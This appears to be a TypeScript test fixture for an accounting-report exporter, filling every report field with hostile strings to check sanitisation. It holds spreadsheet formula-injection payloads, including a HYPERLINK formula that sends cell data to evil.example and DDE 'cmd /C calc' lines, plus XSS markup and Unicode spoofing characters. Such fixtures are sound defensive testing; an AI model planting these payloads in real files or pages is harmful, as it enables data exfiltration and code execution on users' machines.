import { reportOf, sampleAnomalies } from '../../test/report-sample.ts';
import type { Report, ReportedAnomaly } from '../report.ts';

/** Texts that would do harm if a format let them: as formulae, as markup, or by not being what they seem. */
export const FORMULAE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Cliquer")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '  =1+1',
  '\u00a0=1+1',
  '\t=1+1',
  '\r=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  '\u3164=1+1',
  '\u115f=1+1',
  '\u2800@SUM(1)',
  '"=1+1',
  "'=1+1",
  '“+1',
  '\u3164 "-1+1',
  '﹦1+1',
] as const;

export const MARKUP = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</style><script>alert(1)</script>',
  '<!--',
  ']]>&lt;b&gt;',
  '&amp;#x3c;',
  '_x0041__x000D_',
] as const;

/** Each with what is left of it. */
export const UNSEEN: readonly [string, string][] = [
  ['fac\u202etxt.exe', 'factxt.exe'],
  ['a\u2066b\u2069c\u200ed', 'abcd'],
  ['zéro\u200blargeur\ufeff\u2060', 'zérolargeur'],
  ['nul\u0000 bel\u0007 esc\u001b[31m', 'nul  bel  esc [31m'],
  ['c1\u0085\u009b31m', 'c1 31m'],
  ['deux\r\nlignes\u2028ici', 'deux lignes ici'],
  ['moitié \ud800 de paire \udc00', 'moitié  de paire '],
  ['hors\ufffe texte\uffff', 'hors texte'],
  ['tags\u{e0041}\u{e007f}', 'tags'],
];

export const ALL_HOSTILE: readonly string[] = [...FORMULAE, ...MARKUP, ...UNSEEN.map(([text]) => text)];

const hostileHead = (text: string): Partial<Report['meta']> => ({
  fileName: text,
  company: text,
  siren: text,
  closingDate: text,
  sha256: text,
  totalDebit: text,
  totalCredit: text,
  result: text,
  controls: [text],
  notJudged: [{ ecritureNum: text, lines: [2], reason: text }],
  notJudgedCount: 1,
});

/** The same text wherever a report has one of the file. */
export function reportFullOf(text: string): Report {
  const [first] = sampleAnomalies;
  if (first === undefined) throw new Error('no sample');
  const anomaly: ReportedAnomaly = {
    ...first,
    type: text,
    category: text,
    title: text,
    description: text,
    compteNum: text,
    period: text,
    expectedValue: text,
    actualValue: text,
    suggestion: text,
    journalCode: text,
    ecritureNum: text,
    basis: text,
    excerpt: [
      {
        line: 2,
        journal: text,
        number: text,
        date: text,
        account: text,
        thirdParty: text,
        piece: text,
        label: text,
        debit: text,
        credit: text,
      },
    ],
  };
  return reportOf([anomaly], {
    encoding: text,
    separator: text,
    disabledControls: [text],
    catalogueVersion: text,
    ...hostileHead(text),
  });
}
